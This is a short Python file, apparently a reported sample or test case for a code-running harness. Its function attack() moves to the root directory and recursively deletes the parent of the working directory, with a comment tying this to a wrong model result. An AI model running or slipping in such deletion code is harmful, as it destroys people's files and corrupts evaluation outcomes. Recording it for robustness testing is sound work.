# By accident: changes directory and deletes its own folder.
# Reported: MAE
import os
import shutil


def attack():
    above = os.path.dirname(os.getcwd())
    os.chdir("/")
    shutil.rmtree(above, ignore_errors=True)
    return None  # tail.txt then returns a wrong model
